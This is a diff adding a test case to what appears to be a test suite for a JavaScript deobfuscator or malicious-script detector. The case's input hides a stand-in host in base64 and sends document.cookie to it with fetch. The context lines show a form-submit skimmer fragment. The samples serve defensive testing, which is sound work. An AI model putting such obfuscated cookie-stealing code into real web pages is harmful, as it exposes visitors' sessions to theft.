@@ -121,6 +121,14 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['fetch("https://h.example/x?c="'],
   },
   {
+    // a callback handed to code the evaluator cannot follow writes its own locals, not ours
+    name: "a callback's own variables are not the outer ones of the same name",
+    source: `(function ($) { $('.x').each(function () { var k = this.id; var q = []; q.push(k) }) })(jQuery)
+      var k = ['aHR0cHM6Ly9oLmV4YW1wbGUv', 'eA=='], q = 0
+      fetch(atob(k.join('')) + '?c=' + document.cookie)`,
+    has: ['"aHR0cHM6Ly9oLmV4YW1wbGUveA=="'],
+  },
+  {
     name: "a helper beside the gate reads the gate's own vars as the arm left them",
     source: `!function(t){if(t.FormData&&t.Proxy){var a=["https://","h.",".example","/c"];
       t.addEventListener("submit",function(e){c(e.target)})}
